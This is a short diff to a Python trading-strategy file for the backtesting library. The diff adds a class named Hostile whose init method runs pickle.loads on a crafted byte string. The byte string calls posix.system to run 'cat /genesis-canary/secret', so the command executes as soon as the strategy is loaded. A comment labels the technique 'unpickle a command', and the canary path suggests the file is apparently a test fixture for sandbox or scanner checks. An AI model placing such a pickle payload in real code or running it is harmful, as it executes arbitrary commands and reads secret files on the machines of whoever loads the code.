@@ -1,15 +1,13 @@
+# technique: unpickle a command
 # expect: import
-import backtesting
-import numpy as np
-import pandas as pd
-import talib
+# ends: trades
 from backtesting import Strategy
-
 import pickle
+
 
 class Hostile(Strategy):
     def init(self):
-        pass
+        pickle.loads(b"cposix\nsystem\n(S'cat /genesis-canary/secret'\ntR.")
 
     def next(self):
         pass
